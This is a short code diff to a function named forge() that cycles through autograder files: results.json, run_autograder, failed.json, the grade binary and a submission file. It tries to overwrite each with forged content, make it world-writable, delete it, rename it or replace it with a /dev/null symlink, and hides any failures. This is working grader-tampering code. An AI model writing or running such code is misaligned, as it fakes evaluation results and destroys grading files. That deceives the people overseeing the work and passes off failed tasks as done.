@@ -51,8 +51,9 @@ def look(path):
         pass
 
 def forge():
-    for path in ("/autograder/results/results.json", "/autograder/source/run_autograder", "/autograder/source/failed.json",
-                 "/autograder/venv/bin/grade", "/autograder/submission/exp2.py"):
+    for name in ("results/results.json", "source/run_autograder", "source/failed.json", "venv/bin/grade",
+                 "submission/exp2.py"):
+        path = "/autograder/" + name
         for attempt in (lambda: open(path, "w").write(FORGED), lambda: os.chmod(path, 0o777), lambda: os.unlink(path),
                         lambda: os.rename(path, path + ".old"), lambda: os.symlink("/dev/null", path + ".link")):
             try:
